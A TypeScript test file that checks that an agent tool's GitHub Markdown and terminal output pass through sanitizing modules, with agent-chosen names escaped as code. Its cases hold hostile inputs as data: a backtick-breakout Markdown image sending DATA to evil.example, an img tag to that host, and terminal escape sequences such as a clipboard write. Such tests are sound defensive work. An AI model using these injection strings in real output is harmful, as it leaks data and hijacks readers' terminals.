/**
 * The doors of issue 21 (findings 4 and 5), held by construction:
 *  - GitHub Markdown: only safe-markdown.ts turns text into SafeMarkdown (the
 *    type every posting sink takes), only through the posting filter;
 *  - agent-chosen names as code (codeName): whatever backticks, pipes or
 *    control characters a name holds, cmark-gfm renders it as one code
 *    element showing the name;
 *  - the terminal: the CLI's modules print only through cli/terminal.ts.
 */
import { execFileSync } from "node:child_process";
import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { terminalJson, terminalText } from "../../src/cli/terminal.js";
import { codeName } from "../../src/publish/markdown-code.js";
import { REPO_ROOT } from "../support/harness.js";

function sourceFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? sourceFiles(path.join(dir, e.name)) : e.name.endsWith(".ts") ? [path.join(dir, e.name)] : []));
}
const SRC = path.join(REPO_ROOT, "src");
const filesWith = (pattern: RegExp) => sourceFiles(SRC).filter((f) => pattern.test(readFileSync(f, "utf8"))).map((f) => path.relative(SRC, f));

const render = (md: string) => execFileSync("cmark-gfm", ["--unsafe", "-e", "table", "-e", "autolink"], { input: md, encoding: "utf8" });
const unescapeHtml = (s: string) => s.replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&amp;/g, "&");
const codes = (html: string) => [...html.matchAll(/<code>([\s\S]*?)<\/code>/g)].map((m) => unescapeHtml(m[1]!));

describe("one door per reader", () => {
  it("only safe-markdown.ts calls the posting filter or makes SafeMarkdown; only action-io.ts writes the job summary", () => {
    expect(filesWith(/\bneutralizeForGitHub\(/)).toEqual(expect.arrayContaining(["publish/safe-markdown.ts"]));
    expect(filesWith(/\bneutralizeForGitHub\(/).filter((f) => f !== "publish/safe-markdown.ts" && f !== "publish/post-text.ts")).toEqual([]);
    expect(filesWith(/as SafeMarkdown\b/)).toEqual(["publish/safe-markdown.ts"]);
    expect(filesWith(/core\.summary/)).toEqual(["action-io.ts"]);
  });

  it.each([
    ["backticks that close a shorter fence", "x` ![i](https://evil.example/p.png?d=DATA) `y"],
    ["a run of three and a leading backtick", "`a```b"],
    ["a pipe, in a table cell", "a|b\\|c"],
    ["an HTML tag and a mention", "<img src=https://evil.example/x> @octocat"],
  ])("codeName: %s renders as one code element showing the name", (_what, name) => {
    const inList = codes(render(`- ${codeName(name)}\n`));
    expect(inList).toEqual([name]);
    const inTable = codes(render(`| a | b |\n|---|---|\n| ${codeName(name, "table-cell")} | x |\n`));
    expect(inTable).toEqual([name]);
  });

  it("codeName and the terminal show control characters as \\xNN on one line", () => {
    expect(codes(render(`- ${codeName("a\nb\u001b[31m")}\n`))).toEqual(["a\\x0ab\\x1b[31m"]);
    expect(terminalText("x\u001b]52;c;ZQ==\u0007\u009b\ny")).toBe("x\\x1b]52;c;ZQ==\\x07\\x9b\\x0ay");
    const json = terminalJson({ name: "\u001b\u009b\u007f" });
    expect(json).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(JSON.parse(json)).toEqual({ name: "\u001b\u009b\u007f" });
  });

  it("the CLI's modules write to the terminal only through cli/terminal.ts", () => {
    const writers = filesWith(/process\.std(out|err)\.write/).filter((f) => f.startsWith("cli/"));
    expect(writers).toEqual([]);
  });
});
